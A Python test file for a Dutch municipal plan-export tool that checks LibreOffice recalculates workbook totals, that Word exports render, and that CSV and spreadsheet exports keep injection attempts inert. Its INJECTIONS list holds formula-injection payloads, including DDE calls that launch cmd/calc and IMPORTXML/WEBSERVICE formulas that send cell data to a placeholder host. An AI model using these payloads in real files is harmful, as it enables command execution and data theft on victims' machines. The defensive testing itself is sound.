"""Every file of the plan opens in LibreOffice, which reckons the same totals as we wrote down."""

import csv
import io
import re
import zipfile
from dataclasses import replace
from decimal import Decimal

import openpyxl
import pypdf
import pytest

from facilitator import exports
from facilitator.domain.bbc.money import as_columns
from facilitator.domain.bbc.words import Credit, Entity, Flow
from facilitator.domain.plan.columns import ColumnProfile
from facilitator.domain.plan.inert import uninert
from facilitator.domain.plan.item import Field
from facilitator.domain.plan.progress import read_period
from facilitator.exports.json_file import json_plan
from facilitator.exports.papers import write as paper
from facilitator.views.papers.progress_paper import progress_paper
from facilitator.views.papers.questions_paper import questions_paper
from tests.exports.rich_plan import rich
from tests.office import converted
from tests.plan_cast import item, line, plan

FORMULA = re.compile(rb"(<c [^>]*>)(<f>.*?</f>)<v>[^<]*</v>")
EVIL = '=HYPERLINK("http://x";"y")'  # fmt: skip
# What has been tried on spreadsheets: formulas, links, DDE, and the same behind blanks, quotes and wide or unseen signs.
INJECTIONS = (
    "=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://x";"klik")', "=cmd|'/C calc'!A0", "|calc", "%0A=1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://x",A1),"//a")', '=WEBSERVICE("http://x")', "+491234567", " =1+1", "\u00a0=1+1",
    "\u200b=1+1", "\ufeff=1+1", '"=1+1', "'=1+1", "''=1+1", "\"'=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "\u3000=1+1", "=1+1;=2+2",
    "a\n=1+1", '=DDE("cmd";"/C calc";"x")', '=1+1";=2+2', "- een streepje", "'s avonds", "0703", "1e5", "1/2", "TRUE", "#REF!", "_x0041_",
)  # fmt: skip
OWN = ColumnProfile("pakket", {
    "Acties": (("U_totaal", "Totaal"), ("U_2031", "=1+1"), ("U_2026", "U_2026"), ("saldo", "saldo"), ("actie_id", "id")),
    "Ramingen": (("bedrag", "bedrag"), ("soort", "soort"), ("boekjaar", "boekjaar"), ("actie_id", "id")),
})  # fmt: skip


def many_kinds():
    """Every kind of credit, both flows, both entities, several goals, amounts with cents, and a year outside the plan."""
    items = []
    for n in range(6):
        lines = [
            line(year, f"{(n + 1) * (year - 2020)}.{n}3", flow, credit=credit, entity=Entity.OCMW)
            for year in (2026, 2028, 2031)
            for flow in Flow
            for credit in Credit
        ]
        fields = {"BD_code": ["BD2", "0703", "703", "=BD", ""][n % 5], "AP_code": "AP1" if n % 5 < 4 else "nog te plaatsen",
                  "wijziging": ["nieuw", "gewijzigd"][n % 2], "prioritair": n % 3 == 0, "motivering_wijziging": EVIL}  # fmt: skip
        items.append(item(f"i{n}", f"Open digipunt {n}", (*lines, line(2040, "5")), **fields))
    return plan(*items)


def evil():
    """A plan of which every text is an attempt, and every other column of the same."""
    return plan(*(
        item(f"i{n}", text, (line(2026, "1", description=text, project=text),), dienst=text, AC_code=text, AC_commentaar=text, BD_kort=text)
        for n, text in enumerate(INJECTIONS)
    ))  # fmt: skip


def uncached(content):
    """The workbook without what we wrote beside each formula: whoever opens it must reckon."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as given, zipfile.ZipFile(target, "w") as made:
        for name in given.namelist():
            text = given.read(name)
            made.writestr(name, FORMULA.sub(rb"\1\2", text) if name.startswith("xl/worksheets/") else text)
    made = target.getvalue()
    assert not any(row[column] for sheet, row, column in _cached(made))
    return made


def values(content):
    book = openpyxl.load_workbook(io.BytesIO(content), data_only=True)
    return {sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)] for sheet in book}


def formulas(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        (sheet.title, cell.row - 1, cell.column - 1)
        for sheet in book
        for row in sheet
        for cell in row
        if cell.data_type == "f"
    ]


def _cached(content):
    told = values(content)
    return [(sheet, told[sheet][row], column) for sheet, row, column in formulas(content)]


BOOKS = {
    "full": lambda: exports.write(many_kinds(), "xlsx"),
    "kern": lambda: exports.write(many_kinds(), "xlsx", "kern"),
    "own": lambda: exports.write(many_kinds(), "xlsx", columns=OWN),
    "rich": lambda: exports.write(rich(), "xlsx"),
    "evil": lambda: exports.write(evil(), "xlsx"),
    "empty": lambda: exports.write(plan(), "xlsx"),
}


def written():
    """Every paper that is made as Word."""
    half_year = read_period("2027-1")
    return {
        "plan": exports.write(rich(), "docx"),
        "leeg": exports.write(plan(), "docx"),
        "vragen": paper(questions_paper(rich()), "docx"),
        "opvolging": paper(progress_paper(rich(), half_year), "docx"),
    }


@pytest.fixture(scope="module")
def office(tmp_path_factory):
    """All files, opened in two starts of the program: workbooks to reckon, papers to read."""
    folder = tmp_path_factory.mktemp("office")
    books = {name: make() for name, make in BOOKS.items()}
    sheets, papers = [], []
    for name, content in books.items():
        sheets.append(folder / f"{name}.xlsx")
        sheets[-1].write_bytes(uncached(content))
    for sheet in exports.CSV_SHEETS:
        sheets.append(folder / f"csv-{sheet}.csv")
        sheets[-1].write_bytes(exports.write(rich(), "csv", sheet=sheet))
    for name, content in written().items():
        papers.append(folder / f"{name}.docx")
        papers[-1].write_bytes(content)
    sheets.append(folder / "csv-evil.csv")
    sheets[-1].write_bytes(exports.write(evil(), "csv"))
    reckoned = {name: file.read_bytes() for name, file in converted(folder, "xlsx", *sheets).items()}
    return books, reckoned, converted(folder, "pdf", *papers)


@pytest.mark.parametrize("name", BOOKS)
def test_libreoffice_reckons_what_we_wrote_beside_each_formula(office, name):
    books, reckoned, _ = office
    ours, theirs = values(books[name]), values(reckoned[f"{name}.xlsx"])
    at = formulas(books[name])

    assert {(sheet, row, column): round(theirs[sheet][row][column], 2) for sheet, row, column in at} == {
        (sheet, row, column): round(ours[sheet][row][column], 2) for sheet, row, column in at
    }
    assert (at == []) == (name == "empty")


@pytest.mark.parametrize("name", BOOKS)
def test_no_cell_holds_an_error_and_every_text_is_as_we_wrote_it(office, name):
    books, reckoned, _ = office
    ours, theirs = values(books[name]), values(reckoned[f"{name}.xlsx"])

    assert formulas(reckoned[f"{name}.xlsx"]) == formulas(books[name])
    assert list(theirs) == list(ours)
    for sheet, rows in ours.items():
        read = theirs[sheet]
        assert len(read) == len(rows)
        for row, other in zip(rows, read, strict=True):
            assert [each for each in other if isinstance(each, str)] == [each for each in row if isinstance(each, str)]
    assert not any(
        isinstance(cell, str) and re.match(r"#(REF|NAME|VALUE|DIV|N/A|NUM)|Err:", cell)
        for rows in theirs.values() for row in rows for cell in row if cell != "#REF!"
    )  # fmt: skip


def test_an_attempt_on_a_spreadsheet_is_a_text_that_stays_as_it_was_typed(office):
    books, reckoned, _ = office
    ours, rows = values(books["evil"])["Acties"], next(iter(values(reckoned["csv-evil.csv"]).values()))

    for name in ("AC_korte_omschrijving", "AC_code", "dienst", "AC_commentaar"):
        assert [row[ours[0].index(name)] for row in ours[1:]] == list(INJECTIONS)
    assert {sheet for sheet, *_ in formulas(books["evil"])} == {"Acties"}
    assert {ours[0][column] for _, _, column in formulas(books["evil"])} == {"U_totaal", "O_totaal", "saldo"}
    assert formulas(reckoned["csv-evil.csv"]) == []
    assert len(rows) >= len(ours)


def test_csv_gives_every_text_back_as_it_was_typed():
    lines = exports.write(evil(), "csv").decode("utf-8-sig")
    head, *rows = csv.reader(io.StringIO(lines, newline=""), delimiter=";")

    for name in ("AC_korte_omschrijving", "AC_code", "dienst", "AC_commentaar", "BD_kort"):
        told = [row[head.index(name)] for row in rows]
        assert [uninert(cell) for cell in told] == list(INJECTIONS)
        assert not any(cell[:1] in "=+-@\t\r|" for cell in told)


def test_the_sums_of_a_year_are_the_same_in_workbook_and_json():
    made = many_kinds()
    rows = values(exports.write(made, "xlsx"))["Acties"]
    told = json_plan(made)

    for year in made.years:
        for sign, flow in (("U", "Uitgave"), ("O", "Ontvangst")):
            column = rows[0].index(f"{sign}_{year}")
            spent = sum(Decimal(str(one["bedrag"])) for action in told for one in action["transacties"]
                        if (one["boekjaar"], one["soort"]) == (year, flow))  # fmt: skip
            assert sum(Decimal(str(row[column] or 0)) for row in rows[1:]) == spent


@pytest.mark.parametrize("sheet", exports.CSV_SHEETS)
def test_each_sheet_of_csv_opens(office, sheet):
    (only,) = values(office[1][f"csv-{sheet}.csv"]).values()

    assert len(only) >= 2


def test_the_word_file_opens_with_every_action_on_its_pages(office):
    papers = office[2]
    said = "\n".join(page.extract_text() for page in pypdf.PdfReader(papers["plan.docx"]).pages)

    assert [one.title in " ".join(said.split()) for one in rich().items] == [True] * 3
    assert all(len(pypdf.PdfReader(file).pages) >= 1 for file in papers.values())
    chapters = [one.title for one in pypdf.PdfReader(papers["plan.docx"]).outline if not isinstance(one, list)]
    assert chapters == ["Overzicht", "Actiefiches", "Beslissingen", "Bijlage: advies uit het traject"]


def test_a_hundred_years_of_lines_in_one_cell_are_one_sum():
    heavy = item("i", "Open een digipunt")
    fields = {**heavy.fields, "U_2026": Field([as_columns(line(2026, "0.01")) for _ in range(200)], 1)}
    rows = values(exports.write(plan(replace(heavy, fields=fields)), "xlsx"))["Acties"]

    assert rows[1][rows[0].index("U_totaal")] == 2
